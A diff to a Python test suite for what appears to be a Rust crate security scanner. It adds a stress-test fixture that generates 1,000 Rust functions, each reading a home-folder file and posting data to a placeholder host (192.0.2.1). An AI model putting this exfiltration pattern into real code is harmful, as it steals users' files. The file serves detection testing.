@@ -125,6 +125,30 @@ def _source(data: bytes) -> Callable[[Path], list[str]]:
     return _crate(files + end(), level=0)  # stored: the source itself is the test
 
 
+def _dense_data_flow(scratch: Path) -> list[str]:
+    """Six files of 167 functions (1,000: the most a unit's data flow follows), each
+    reading a file in the home folder, passing what it holds to 20 others and sending it:
+    labels must stop growing in bounded visits, not once per path."""
+    functions, parts = 1_000, 6
+    per_part = -(-functions // parts)
+    files = member(b"x-1.0.0/Cargo.toml", MANIFEST)
+    for part in range(parts):
+        body = [b"mod m%d;\n" % n for n in range(1, parts)] if part == 0 else []
+        for i in range(part * per_part, min((part + 1) * per_part, functions)):
+            calls = b" ".join(
+                b"f%d(d.clone() + &t);" % ((i * 7_919 + k * 104_729) % functions) for k in range(20)
+            )
+            body.append(
+                b'pub fn f%d(d: String) { let h = std::env::var_os("HOME").unwrap(); '
+                b'let t = std::fs::read_to_string(std::path::Path::new(&h).join("k%d")).unwrap(); '
+                b'%s ureq::post("http://192.0.2.1/").send_string(&d); }\n' % (i, i, calls)
+            )
+        name = b"x-1.0.0/src/lib.rs" if part == 0 else b"x-1.0.0/src/m%d.rs" % part
+        files += member(name, b"".join(body))
+    crate = write_crate(scratch / "x-1.0.0.crate", files + end())
+    return ["scan", str(crate)]
+
+
 def _dense_call_graph(scratch: Path) -> list[str]:
     """Three files of 1,000 functions, each calling 100 others and taking the steps of a
     download-and-run, so that the call graph is built and every function reaches every
@@ -199,6 +223,7 @@ SCAN = [
         frozenset({0, 1}),
     ),
     Case("scan: a dense call graph (3,000 functions)", _dense_call_graph, frozenset({0, 1})),
+    Case("scan: a dense data flow (1,000 functions)", _dense_data_flow, frozenset({0, 1})),
     Case(
         "diff: pax header in CVE-2024-6232's shape", _diff(_PAX_BLOWUP + end()), frozenset({0, 1})
     ),
